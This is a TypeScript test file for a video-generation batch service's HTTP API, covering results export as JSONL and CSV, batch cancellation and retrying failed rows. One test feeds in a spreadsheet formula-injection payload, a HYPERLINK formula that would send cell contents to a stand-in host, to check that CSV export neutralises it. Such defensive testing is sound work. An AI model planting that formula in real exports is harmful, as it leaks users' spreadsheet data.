import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { Redis } from 'ioredis';
import { vidqKeys } from '@vidqueue/core/contract';
import { createBatchStore, type BatchStore } from '@vidqueue/core/store';
import { makeApp, testRedis, type TestApp } from './helpers.js';
import { postBatch, sumCounts, type BatchBody, type Created, type ErrorReply } from './batch-helpers.js';

let t: TestApp;
let redis: Redis;
let store: BatchStore;

beforeEach(async () => {
  t = await makeApp();
  redis = testRedis();
  store = createBatchStore(redis, t.config.QUEUE_PREFIX, t.config.BATCH_TTL_SECONDS);
});

afterEach(async () => {
  await t.close();
  await redis.quit();
});

const CSV = [
  'campaign,prompt,custom_id,duration,note',
  'winter,a red fox,fox,5,"a, b"',
  'summer,bad row,bad,7,x',
  'spring,a lighthouse,light,10,',
  'autumn,"waves ""big""",waves,5,last',
].join('\n');

async function create(): Promise<string> {
  const res = await postBatch(t.app, CSV, 'text/csv', '?on_invalid=skip');
  expect(res.statusCode).toBe(202);
  return res.json<Created>().id;
}

async function view(id: string): Promise<BatchBody> {
  const res = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}` });
  expect(res.statusCode).toBe(200);
  return res.json<BatchBody>();
}

describe('GET /v1/batches/:id/results', () => {
  it('streams every row in input order with its outcome and metadata, as JSONL and CSV', async () => {
    const id = await create();
    // Rows finish out of order, as workers would report them.
    await store.setRowStatus(id, 4, 'failed', {
      error: { code: 'generation_failed', message: 'NSFW, refused' },
    });
    await store.setRowStatus(id, 1, 'generating', { generation_id: 'g1' });
    await store.setRowStatus(id, 1, 'completed', {
      video_url: 'https://cdn.example/v1.mp4',
      generation_id: 'g1',
      cost_usd: 0.125,
    });

    const jsonl = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
    expect(jsonl.statusCode).toBe(200);
    expect(jsonl.headers['content-type']).toMatch(/application\/x-ndjson/);
    const lines = jsonl.body
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toEqual([
      {
        row: 1,
        custom_id: 'fox',
        status: 'completed',
        video_url: 'https://cdn.example/v1.mp4',
        provider_video_url: 'https://cdn.example/v1.mp4',
        archive: null,
        error_code: null,
        error_message: null,
        generation_id: 'g1',
        generation_ids: ['g1'],
        cost_usd: 0.125,
        prompt: 'a red fox',
        model: 'sber-ai/kandinsky5-distill-t2v',
        metadata: { campaign: 'winter', note: 'a, b' },
      },
      expect.objectContaining({
        row: 3,
        custom_id: 'light',
        status: 'queued',
        metadata: { campaign: 'spring', note: '' },
      }),
      expect.objectContaining({
        row: 4,
        status: 'failed',
        error_code: 'generation_failed',
        error_message: 'NSFW, refused',
        prompt: 'waves "big"',
        metadata: { campaign: 'autumn', note: 'last' },
      }),
    ]);

    const csv = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results?format=csv` });
    expect(csv.statusCode).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    expect(csv.headers['content-disposition']).toContain(`${id}.results.csv`);
    expect(csv.body.trim().split('\n')).toEqual([
      'row,custom_id,status,video_url,provider_video_url,archive_status,archive_bytes,archive_sha256,archived_at,error_code,error_message,generation_id,cost_usd,prompt,model,possible_duplicate,generation_ids,campaign,note',
      '1,fox,completed,https://cdn.example/v1.mp4,https://cdn.example/v1.mp4,,,,,,,g1,0.125,a red fox,sber-ai/kandinsky5-distill-t2v,,g1,winter,"a, b"',
      '3,light,queued,,,,,,,,,,,a lighthouse,sber-ai/kandinsky5-distill-t2v,,,spring,',
      '4,waves,failed,,,,,,,generation_failed,"NSFW, refused",,,"waves ""big""",sber-ai/kandinsky5-distill-t2v,,,autumn,last',
    ]);
    expect((await view(id)).cost_usd).toBe(0.125);
  });

  it('escapes cells a spreadsheet would run as formulas (=, +, -, @, tab, CR), header included', async () => {
    const csv = [
      'prompt,custom_id,=cmd,note',
      '"=HYPERLINK(""http://evil.example/?""&A1,""open"")",+1,@SUM(A1),-2+3',
      'a calm lake,plain,"\tx",ok',
    ].join('\n');
    const res = await postBatch(t.app, csv);
    expect(res.statusCode).toBe(202);
    const { id } = res.json<Created>();
    await store.setRowStatus(id, 1, 'failed', { error: { code: 'generation_failed', message: '=1+1' } });
    await store.setRowStatus(id, 2, 'failed', { error: { code: 'generation_failed', message: '\r=1' } });

    const out = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results?format=csv` });
    expect(out.statusCode).toBe(200);
    // A UTF-8 byte order mark first, so Excel on Windows reads the text as UTF-8.
    expect(out.body.startsWith('\uFEFFrow,')).toBe(true);
    const lines = out.body.slice(1).split('\n');
    expect(lines[0]).toBe(
      "row,custom_id,status,video_url,provider_video_url,archive_status,archive_bytes,archive_sha256,archived_at,error_code,error_message,generation_id,cost_usd,prompt,model,possible_duplicate,generation_ids,'=cmd,note",
    );
    expect(lines[1]).toBe(
      `1,'+1,failed,,,,,,,generation_failed,'=1+1,,,"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",sber-ai/kandinsky5-distill-t2v,,,'@SUM(A1),'-2+3`,
    );
    expect(lines[2]).toBe(
      `2,plain,failed,,,,,,,generation_failed,"'\r=1",,,a calm lake,sber-ai/kandinsky5-distill-t2v,,,'\tx,ok`,
    );
    // JSONL carries the values as they are: it is not opened by spreadsheets.
    const jsonl = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
    expect(JSON.parse(jsonl.body.split('\n')[0] ?? '')).toMatchObject({
      custom_id: '+1',
      metadata: { '=cmd': '@SUM(A1)', note: '-2+3' },
    });
  });

  it('writes a metadata column named like a result column as metadata.<name>: no header name twice', async () => {
    const csv = [
      'prompt,status,row,video_url,cost_usd,campaign',
      'a red fox,todo,7,http://mine.example/x,1.5,w',
    ].join('\n');
    const res = await postBatch(t.app, csv);
    expect(res.statusCode).toBe(202);
    const { id } = res.json<Created>();
    await store.setRowStatus(id, 1, 'completed', { video_url: 'https://cdn.example/v1.mp4', cost_usd: 0.1 });

    const out = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results?format=csv` });
    expect(out.statusCode).toBe(200);
    const [header, row] = out.body.trim().split('\n');
    const names = header?.split(',') ?? [];
    expect(new Set(names).size).toBe(names.length);
    expect(names.slice(-5)).toEqual([
      'metadata.status',
      'metadata.row',
      'metadata.video_url',
      'metadata.cost_usd',
      'campaign',
    ]);
    const cells = Object.fromEntries(names.map((name, i) => [name, row?.split(',')[i]]));
    expect(cells).toMatchObject({
      row: '1',
      status: 'completed',
      video_url: 'https://cdn.example/v1.mp4',
      cost_usd: '0.1',
      'metadata.status': 'todo',
      'metadata.row': '7',
      'metadata.video_url': 'http://mine.example/x',
      'metadata.cost_usd': '1.5',
      campaign: 'w',
    });
    // JSONL keeps metadata nested, under its own names.
    const jsonl = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
    expect(JSON.parse(jsonl.body.split('\n')[0] ?? '')).toMatchObject({
      status: 'completed',
      metadata: {
        status: 'todo',
        row: '7',
        video_url: 'http://mine.example/x',
        cost_usd: '1.5',
        campaign: 'w',
      },
    });
  });

  it('keeps results readable after BullMQ removed the jobs', async () => {
    const id = await create();
    await store.setRowStatus(id, 1, 'completed', { video_url: 'u1', generation_id: 'g1' });
    await t.app.queue.obliterate({ force: true });
    const res = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
    expect(res.body.trim().split('\n')).toHaveLength(3);
    expect(JSON.parse(res.body.split('\n')[0] ?? '')).toMatchObject({ row: 1, video_url: 'u1' });
    // Rows 3 and 4 are still open: the record has no TTL until they finish (then BATCH_TTL_SECONDS).
    const input = vidqKeys(t.config.QUEUE_PREFIX).batch(id).input;
    expect(await redis.ttl(input)).toBe(-1);
    for (const row of [3, 4]) await store.setRowStatus(id, row, 'cancelled');
    expect(await redis.ttl(input)).toBeGreaterThan(t.config.BATCH_TTL_SECONDS - 60);
  });
});

describe('DELETE /v1/batches/:id', () => {
  it('cancels queued rows at once, flags running rows for the worker, and answers with the batch', async () => {
    const id = await create();
    await store.setRowStatus(id, 1, 'generating', { generation_id: 'g1' });
    const res = await t.app.inject({ method: 'DELETE', url: `/v1/batches/${id}` });
    expect(res.statusCode).toBe(202);
    const body = res.json<BatchBody>();
    expect(body).toMatchObject({ status: 'cancelled', counts: { generating: 1, cancelled: 2, queued: 0 } });
    expect(sumCounts(body.counts)).toBe(3);
    const keys = vidqKeys(t.config.QUEUE_PREFIX);
    for (const row of [1, 3, 4]) expect(await redis.exists(keys.cancel(`${id}-${row}`))).toBe(1);
    // The worker then reports the running row cancelled; the batch is finished.
    await store.setRowStatus(id, 1, 'cancelled', {
      error: { code: 'cancelled', message: 'cancelled by request' },
    });
    const after = await view(id);
    expect(after).toMatchObject({ status: 'cancelled', counts: { cancelled: 3 } });
    expect(after.finished_at).not.toBeNull();
    // Repeating is harmless.
    expect((await t.app.inject({ method: 'DELETE', url: `/v1/batches/${id}` })).statusCode).toBe(202);
  });

  it('answers 409 for a batch that finished, 404 for an unknown one', async () => {
    const id = await create();
    for (const row of [1, 3, 4]) await store.setRowStatus(id, row, 'completed', { video_url: `u${row}` });
    expect((await view(id)).status).toBe('completed');
    const res = await t.app.inject({ method: 'DELETE', url: `/v1/batches/${id}` });
    expect(res.statusCode).toBe(409);
    expect(res.json<ErrorReply>().error.code).toBe('BATCH_FINISHED');
    expect((await t.app.inject({ method: 'DELETE', url: '/v1/batches/bat_none' })).statusCode).toBe(404);
  });
});

describe('POST /v1/batches/:id/retry', () => {
  it('queues failed rows again as <batch>-<row>-r<n>, submission_unknown ones flagged as possible duplicates', async () => {
    const id = await create();
    await store.setRowStatus(id, 1, 'failed', {
      error: { code: 'submission_unknown', message: 'no answer' },
      generation_id: 'g?',
    });
    await store.setRowStatus(id, 3, 'completed', { video_url: 'u3' });
    await store.setRowStatus(id, 4, 'failed', { error: { code: 'generation_failed', message: 'x' } });
    expect((await view(id)).status).toBe('completed');

    const res = await t.app.inject({
      method: 'POST',
      url: `/v1/batches/${id}/retry`,
      payload: { only: 'failed' },
    });
    expect(res.statusCode).toBe(202);
    expect(res.json()).toEqual({ retried: 2 });
    const b = await view(id);
    expect(b).toMatchObject({
      status: 'running',
      counts: { queued: 2, failed: 0, completed: 1 },
      finished_at: null,
    });

    const one = await t.app.queue.getJob(`${id}-1-r1`);
    const four = await t.app.queue.getJob(`${id}-4-r1`);
    expect(one?.data).toMatchObject({ batchId: id, row: 1, step: 'pending', possibleDuplicate: true });
    expect(one?.data.input.prompt).toBe('a red fox');
    expect(one?.data.metadata).toEqual({ campaign: 'winter', note: 'a, b' });
    expect(four?.data.possibleDuplicate).toBeUndefined();
    // The flag shows on the row and in the batch's count, with the earlier generation kept.
    expect(b.possible_duplicates).toBe(1);
    const results = await t.app.inject({ method: 'GET', url: `/v1/batches/${id}/results` });
    const [r1, , r4] = results.body
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(r1).toMatchObject({ status: 'queued', possible_duplicate: true, generation_ids: ['g?'] });
    expect(r4?.possible_duplicate).toBeUndefined();

    // Nothing failed any more: a second retry queues nothing.
    const again = await t.app.inject({ method: 'POST', url: `/v1/batches/${id}/retry`, payload: {} });
    expect(again.json()).toEqual({ retried: 0 });
    const bodiless = await t.app.inject({ method: 'POST', url: `/v1/batches/${id}/retry` });
    expect(bodiless.statusCode).toBe(202);
    const bad = await t.app.inject({
      method: 'POST',
      url: `/v1/batches/${id}/retry`,
      payload: { only: 'all' },
    });
    expect(bad.statusCode).toBe(400);
  });
});
